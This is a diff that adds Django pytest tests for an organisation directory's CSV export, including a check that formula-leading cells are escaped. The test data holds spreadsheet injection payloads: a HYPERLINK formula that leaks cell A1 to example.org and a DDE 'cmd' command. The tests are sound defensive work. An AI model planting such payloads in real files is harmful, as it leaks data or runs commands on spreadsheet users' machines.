@@ -303,3 +303,66 @@ def test_a_real_editor_marks_an_entry_verified_today(editor_client):
     assert response.status_code == 302
     old.refresh_from_db()
     assert old.verified_on == timezone.localdate()
+
+
+@pytest.fixture
+def publisher_client(client, django_user_model):
+    """A real member of the Publishers group. Until the directory's permissions are granted
+    to the groups by migration, the view permission is added here (it is what the export
+    needs, and the group will have it)."""
+    from django.contrib.auth.models import Group, Permission
+
+    from tests.editors_helpers import logged_in, staff_user
+
+    Group.objects.get(name="Publishers").permissions.add(
+        Permission.objects.get(codename="view_organisation")
+    )
+    return logged_in(client, staff_user(django_user_model, "publisher", "Publishers"))
+
+
+def exported_csv(client):
+    """The CSV the admin's export view gives, with every column ticked."""
+    import csv
+    import io
+    import re
+
+    page = client.get(f"{LIST_URL}export/").content.decode()
+    ticked = {name: "on" for name in re.findall(r'type="checkbox" name="([^"]+)"', page)}
+    assert ticked, "the export form lists the columns to export"
+    response = client.post(f"{LIST_URL}export/", {"format": "0", "resource": "0", **ticked})
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    text = b"".join(response.streaming_content if response.streaming else [response.content])
+    return list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"))))
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_export_escapes_cells_a_spreadsheet_would_run(publisher_client, start):
+    payload = f'{start}HYPERLINK("https://example.org/?leak="&A1,"Call")'
+    make_org(
+        "formula",
+        name_fr=payload,
+        editor_notes=f"{start}cmd|' /C calc'!A0",
+        description_en="-2+3 is a plain sum",
+    )
+    make_org("plain", name_fr="Ligne d'écoute")
+    rows = {row["slug"]: row for row in exported_csv(publisher_client)}
+    assert rows["formula"]["name_fr"] == "'" + payload
+    assert rows["formula"]["editor_notes"] == f"'{start}cmd|' /C calc'!A0"
+    assert rows["formula"]["description_en"] == "'-2+3 is a plain sum"
+    # Ordinary text is exported as it is.
+    assert rows["plain"]["name_fr"] == "Ligne d'écoute"
+    assert rows["plain"]["source_url"] == "https://example.org/source"
+
+
+def test_escaped_export_imports_back_unchanged(db):
+    import tablib
+
+    make_org("formula", name_fr="=1+1", description_en="-2")
+    exported = OrganisationResource().export().csv
+    assert "'=1+1" in exported
+    Organisation.objects.filter(slug="formula").update(name_fr="changed")
+    result = OrganisationResource().import_data(tablib.Dataset().load(exported, "csv"))
+    assert not result.has_errors() and not result.has_validation_errors()
+    organisation = Organisation.objects.get(slug="formula")
+    assert organisation.name_fr == "=1+1" and organisation.description_en == "-2"
